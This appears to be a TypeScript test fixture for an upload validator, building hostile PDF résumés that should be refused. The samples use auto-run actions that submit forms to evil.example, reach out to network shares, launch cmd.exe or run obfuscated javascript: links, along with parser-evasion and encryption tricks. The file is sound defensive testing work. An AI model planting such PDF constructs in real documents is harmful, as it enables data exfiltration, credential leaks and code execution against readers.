import type { FileIssue } from '../../../api/uploads/file-issue.ts'
import type { HostileFile } from './hostile.ts'
import { objectStream, type PdfObject, pageObjects, pdf } from './pdf.ts'
import { protectedPdf } from './protected.ts'

const refused = (what: string, bytes: Buffer, issue: FileIssue = 'file_active_content'): HostileFile => ({
  what,
  name: 'cv.pdf',
  bytes,
  issue,
})

/** `catalog` is the place of what happens by itself; `more` objects are numbered from 6. */
const opening = (catalog: string, ...more: PdfObject[]) => {
  const [, ...rest] = pageObjects(more)
  return pdf([{ dictionary: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>` }, ...rest])
}
const object = (dictionary: string): PdfObject => ({ dictionary })
const onPage = (entries: string, ...more: PdfObject[]) => {
  const objects = pageObjects(more)
  return pdf(
    objects.map((each, i) =>
      i === 2 ? object(each.dictionary.replace('/Contents', `${entries} /Contents`)) : each,
    ),
  )
}
const link = (action: string) =>
  onPage(`/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${action} >> >>]`)

const submit = '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>'
const share = '(\\\\\\\\evil.example\\\\share\\\\x.pdf)'
const uri = '<< /S /URI /URI (https://evil.example/) >>'

export const hostilePdfs: HostileFile[] = [
  refused('a form that sends itself when it opens', opening(`/OpenAction ${submit}`)),
  refused('a form that sends itself with a page', onPage(`/AA << /O ${submit} >>`)),
  refused(
    'a document on a network share when it opens',
    opening(`/OpenAction << /S /GoToR /F ${share} /D [0 /Fit] >>`),
  ),
  refused(
    'a document on a network share with a page',
    onPage('/AA << /O 6 0 R >>', object(`<< /S /GoToR /F ${share} >>`)),
  ),
  refused(
    'a document inside of the document when it opens',
    opening('/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>'),
  ),
  refused('data that it imports when it opens', opening('/OpenAction << /S /ImportData /F (x.fdf) >>')),
  refused('a program when it opens', opening('/OpenAction << /S /Launch /F (cmd.exe) >>')),
  refused('an address when it opens', opening(`/OpenAction ${uri}`)),
  refused('an address when it opens, in another object', opening('/OpenAction 6 0 R', object(uri))),
  refused(
    'an address when it opens, in an object stream',
    opening('/OpenAction 20 0 R', objectStream([uri])),
  ),
  refused(
    'an address after a page that it goes to',
    opening(`/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${uri} >>`),
  ),
  refused(
    'an address by an indirect name',
    opening('/OpenAction << /S 6 0 R /URI (https://evil.example/) >>', object('/URI')),
  ),
  refused(
    'an address in one of two definitions',
    opening(
      '/OpenAction 6 0 R',
      object('<< /S /GoTo /D [3 0 R /Fit] >>'),
      object(`null endobj 6 0 obj ${uri}`),
    ),
  ),
  refused(
    'an address in an object that a table finds in a string',
    opening('/OpenAction 9 0 R', object(`(9 0 obj << /S /URI /URI <6874> >> endobj)`)),
  ),
  refused('an action that is nowhere', opening('/OpenAction 99 0 R')),
  refused('an address in an escaped name', opening(`/Open#41ction ${uri}`)),
  refused(
    'an address with a page, in an object stream',
    onPage('/AA 20 0 R', objectStream([`<< /O 21 0 R >>`, uri])),
  ),
  refused('an address when it closes', opening(`/AA << /WC ${uri} >>`)),
  refused(
    'a catalog that opens an address, in an object stream',
    opening('', objectStream([`<< /Type /Catalog /OpenAction ${uri} >>`])),
  ),
  refused('a button that sends the form', link('/S /SubmitForm /F (https://evil.example/)')),
  refused('a link that is a script', link('/S /URI /URI (javascript:alert\\(1\\))')),
  refused('a link that is a script in octal digits', link('/S /URI /URI (\\152avascript:alert\\(1\\))')),
  refused(
    'a link that is a script in hexadecimal digits',
    link(`/S /URI /URI <${Buffer.from('javascript:x').toString('hex')}>`),
  ),
  refused('a link to a file', link('/S /URI /URI (file://evil.example/share/x)')),
  refused('a link to a network share', link(`/S /URI /URI ${share}`)),
  refused(
    'a link to a network share, in another object',
    onPage('/Annots [<< /A << /S /URI /URI 6 0 R >> >>]', object(share)),
  ),
  refused(
    'a stream that lies on a network share',
    pdf(pageObjects([{ dictionary: `<< /Length 0 /F ${share} >>`, stream: Buffer.alloc(0) }])),
  ),
  refused('a film', onPage('/Annots [<< /Subtype /Movie /Movie << /F (x.avi) >> >>]')),
  refused('a script behind a lock that opens', protectedPdf('aes-256-script')),
  refused('an address when it opens, behind an older lock', protectedPdf('rc4-128-open-uri')),
  refused('a link to a network share behind a lock', protectedPdf('aes-256-network-share')),
  refused('a link to a network share behind an older lock', protectedPdf('aes-128-network-share')),
  refused('a password', protectedPdf('aes-256-password'), 'file_locked'),
  refused('an older password', protectedPdf('rc4-128-password'), 'file_locked'),
  refused(
    'a lock for the key of somebody',
    pdf(pageObjects([object('<< /Filter /Adobe.PubSec /V 4 >>')]), { trailer: '/Encrypt 6 0 R ' }),
    'file_locked',
  ),
  refused(
    'a lock that not all readers see',
    pdf([...pageObjects([objectStream(['<< /Title (CV) >>'])]), object(lockOf('aes-256'))], {
      trailer: '/Encrypt 7 0 R ',
    }),
  ),
]

/** The encryption dictionary of a protected document. */
function lockOf(name: string): string {
  const bytes = protectedPdf(name).toString('latin1')
  const found = /<< \/CF .*? >>\s*(?=endobj)/s.exec(bytes)?.[0]
  if (!found) throw new Error(`${name} has no lock`)
  return found
}
